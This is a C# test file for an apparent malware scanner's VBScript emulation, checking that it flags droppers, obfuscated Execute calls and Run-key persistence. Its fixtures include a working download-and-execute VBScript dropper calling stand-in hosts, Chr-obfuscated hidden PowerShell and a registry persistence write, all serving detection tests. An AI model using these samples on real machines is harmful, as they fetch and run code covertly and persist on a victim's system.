using System.Text;
using Crible.Configuration;
using Crible.Model;
using Crible.Pipeline;
using Crible.Scanners.Emulation;

namespace Crible.Tests.Scanners.Emulation;

/// <summary>VBScript droppers written by the tests, translated and run in the emulated Windows Script Host.</summary>
public sealed class VbsEmulationTests
{
    internal const string Downloader = """
        Option Explicit
        Dim shell, http, stream, path, urls, url
        Set shell = CreateObject("WScript.Shell")
        path = shell.ExpandEnvironmentStrings("%TEMP%") & "\invoice.exe"
        urls = Array("http://bad.example.com/a.exe", "http://worse.example.net/b.exe")
        For Each url In urls
            Set http = CreateObject("MSXML2.XMLHTTP")
            http.Open "GET", url, False
            http.Send
            If http.Status = 200 Then
                Set stream = CreateObject("ADODB.Stream")
                With stream
                    .Open
                    .Type = 1
                    .Write http.ResponseBody
                    .SaveToFile path, 2
                    .Close
                End With
                shell.Run "cmd.exe /c " & path, 0, False
                Exit For
            End If
        Next
        """;

    private static Task<Report> Analyse(string script, string name = "invoice.vbs", Analyser? analyser = null) =>
        (analyser ?? TestEngine.Default).AnalyseAsync(Encoding.Latin1.GetBytes(script), name);

    private static Finding Emulation(Report report, string id) =>
        Assert.Single(report.AllFindings, f => f.Finding.Scanner == "emulation" && f.Finding.Id == id).Finding;

    [Fact]
    public async Task A_vbscript_dropper_that_downloads_saves_and_runs_is_malicious_with_its_url_and_file()
    {
        var report = await Analyse(Downloader);

        Assert.Equal("vbscript", report.File.Kind);
        Assert.Equal(Verdict.Malicious, report.Verdict);
        var finding = Emulation(report, "emulation-download-execute");
        Assert.Contains("T1059.005", finding.Attack);
        Assert.Contains("T1105", finding.Attack);
        Assert.Contains("http://bad.example.com/a.exe", finding.Evidence, StringComparison.Ordinal);
        Assert.Contains(@"cmd.exe /c C:\Users\admin\AppData\Local\Temp\invoice.exe", finding.Evidence, StringComparison.Ordinal);
        Assert.Contains(report.Nodes[0].Iocs, i => i.Scanner == "emulation" && i.Kind == IndicatorKind.Url && i.Value == "http://bad.example.com/a.exe");
        Assert.DoesNotContain(report.Nodes[0].Iocs, i => i.Scanner == "emulation" && i.Value == "http://worse.example.net/b.exe");
        Assert.Contains(report.Nodes[0].Iocs, i => i.Scanner == "emulation" && i.Kind == IndicatorKind.Path && i.Value.EndsWith(@"\invoice.exe", StringComparison.Ordinal));
        Assert.Contains(report.Nodes, n => n.Name == "command-1.txt" && n.Relation == Relation.Decoded);
        Emulation(report, "emulation-executable-dropped");
    }

    [Fact]
    public async Task Code_hidden_in_chr_concatenation_and_execute_is_traced_and_run()
    {
        var hidden = "CreateObject(\"WScript.Shell\").Run \"powershell -nop -w hidden -c calc\", 0";
        var chars = string.Join(" & ", hidden.Select(c => $"Chr({(int)c})"));
        var script = $"""
            Dim s, k
            s = {chars}
            k = "Exe" & "cute"
            If Len(s) > 10 Then Execute s
            """;

        var report = await Analyse(script);

        Assert.Contains(report.Iocs, i => i.Kind == IndicatorKind.Command && i.Value == "powershell -nop -w hidden -c calc");
        Assert.Contains("code strings run: 1", Emulation(report, "emulation-summary").Evidence, StringComparison.Ordinal);
        Assert.Contains("T1059.001", Emulation(report, "emulation-command").Attack);
    }

    [Fact]
    public async Task A_run_key_written_by_vbscript_is_persistence()
    {
        var script = """"
            Set sh = WScript.CreateObject("WScript.Shell")
            key = "HKCU\Software\Microsoft\Windows\CurrentVersion\Run\"
            sh.RegWrite key & "updater", "wscript.exe ""C:\Users\Public\u.vbs""", "REG_SZ"
            """";

        var report = await Analyse(script);

        Assert.Equal(Verdict.Malicious, report.Verdict);
        var persistence = Emulation(report, "emulation-persistence");
        Assert.Contains("T1547.001", persistence.Attack);
        Assert.Contains("T1059.005", persistence.Attack);
        Assert.Contains(@"Run\updater", persistence.Evidence, StringComparison.Ordinal);
    }

    [Fact]
    public async Task On_error_resume_next_lets_a_dropper_go_on_past_a_failing_call()
    {
        var script = """
            On Error Resume Next
            Set missing = GetObject("", "No.Such.Object")
            missing.Explode 1 / 0
            Set fso = CreateObject("Scripting.FileSystemObject")
            Set f = fso.CreateTextFile("C:\Users\Public\run.bat", True)
            f.WriteLine "@echo off"
            f.WriteLine "start calc.exe"
            f.Close
            CreateObject("WScript.Shell").Run "C:\Users\Public\run.bat", 0
            """;

        var report = await Analyse(script);

        var dropped = Assert.Single(report.Nodes, n => n.Relation == Relation.Dropped);
        Assert.Equal("run.bat", dropped.Name);
        Assert.Contains(report.Iocs, i => i.Kind == IndicatorKind.Command && i.Value == @"C:\Users\Public\run.bat");
    }

    [Fact]
    public async Task A_payload_decoded_in_select_and_do_loops_is_dropped_and_analysed()
    {
        var payload = "@echo off\r\nstart calc.exe\r\n";
        var shifted = string.Concat(payload.Select(c => (char)(c + 1)));
        var literal = "\"" + shifted.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";
        var script = $"""
            Function Decode(text)
                Dim i, c, out
                i = 1
                Do While i <= Len(text)
                    c = Asc(Mid(text, i, 1))
                    Select Case c
                        Case 11, 14
                            out = out & Chr(c - 1)
                        Case Else
                            out = out & Chr(c - 1)
                    End Select
                    i = i + 1
                Loop
                Decode = out
            End Function
            Set fso = CreateObject("Scripting.FileSystemObject")
            Set f = fso.CreateTextFile(fso.GetSpecialFolder(2) & "\job.bat", True)
            f.Write Decode({literal})
            f.Close
            """;

        var report = await Analyse(script);

        var dropped = Assert.Single(report.Nodes, n => n.Relation == Relation.Dropped);
        Assert.Equal("job.bat", dropped.Name);
        Assert.Equal(payload.Length, dropped.Size);
        Assert.Equal("batch", dropped.Kind);
    }

    [Fact]
    public async Task A_vbscript_loop_that_never_ends_is_stopped_by_the_budget()
    {
        using var engine = CribleEngine.Load(new CribleOptions { Emulation = new EmulationOptions { Budget = TimeSpan.FromSeconds(1) } });

        var stalling = """
            Dim i, shell
            i = 0
            Do
                i = i + 1
            Loop
            Set shell = CreateObject("WScript.Shell")
            shell.Run "calc.exe", 0
            """;

        var report = await Analyse(stalling, analyser: engine.Analyser);

        Assert.Equal(Severity.Suspicious, Emulation(report, "emulation-stopped").Severity);
        Assert.Contains(report.Nodes[0].Incomplete, r => r.StartsWith("emulation:", StringComparison.Ordinal));
    }

    [Fact]
    public async Task An_admin_script_that_reads_the_registry_lists_files_and_echoes_is_not_malicious()
    {
        var script = """
            Option Explicit
            ' Inventory: the Windows version, the log files of the temporary folder, a report beside the script.
            Dim shell, fso, folder, file, version, report, out, count
            Set shell = CreateObject("WScript.Shell")
            On Error Resume Next
            version = shell.RegRead("HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\ProductName")
            On Error GoTo 0
            Set fso = CreateObject("Scripting.FileSystemObject")
            Set folder = fso.GetFolder(shell.ExpandEnvironmentStrings("%TEMP%"))
            report = "Windows: " & version & vbCrLf
            count = 0
            For Each file In folder.Files
                If LCase(fso.GetExtensionName(file.Name)) = "log" Then
                    report = report & file.Name & vbTab & file.Size & vbCrLf
                    count = count + 1
                End If
            Next
            Set out = fso.CreateTextFile(fso.BuildPath(folder.Path, "inventory.txt"), True)
            out.Write report
            out.Close
            WScript.Echo "Inventory written: " & count & " log files"
            """;

        var report = await Analyse(script, "inventory.vbs");

        Assert.Equal("vbscript", report.File.Kind);
        Assert.Equal(Verdict.Clean, report.Verdict);
        Assert.Contains("ran to its end", Emulation(report, "emulation-summary").Evidence, StringComparison.Ordinal);
        Assert.Contains(@"\inventory.txt", Emulation(report, "emulation-file-written").Evidence, StringComparison.Ordinal);
        Assert.DoesNotContain(report.AllFindings, f => f.Finding.Scanner == "emulation" && f.Finding.Severity != Severity.Info);
    }

    [Fact]
    public async Task A_script_the_translator_cannot_read_is_reported_and_left_incomplete()
    {
        var report = await Analyse("Dim x\nx = \"never closed\nWScript.Echo x\nSub Main()\n  Set o = CreateObject(\"WScript.Shell\")\nEnd Sub\n");

        var finding = Emulation(report, "emulation-untranslatable");
        Assert.Equal(Severity.Info, finding.Severity);
        Assert.Contains("line 2", finding.Evidence, StringComparison.Ordinal);
        Assert.Contains(report.Nodes[0].Incomplete, r => r.Contains("could not translate", StringComparison.Ordinal));
        Assert.DoesNotContain(report.AllFindings, f => f.Finding.Id == "emulation-summary");
    }
}
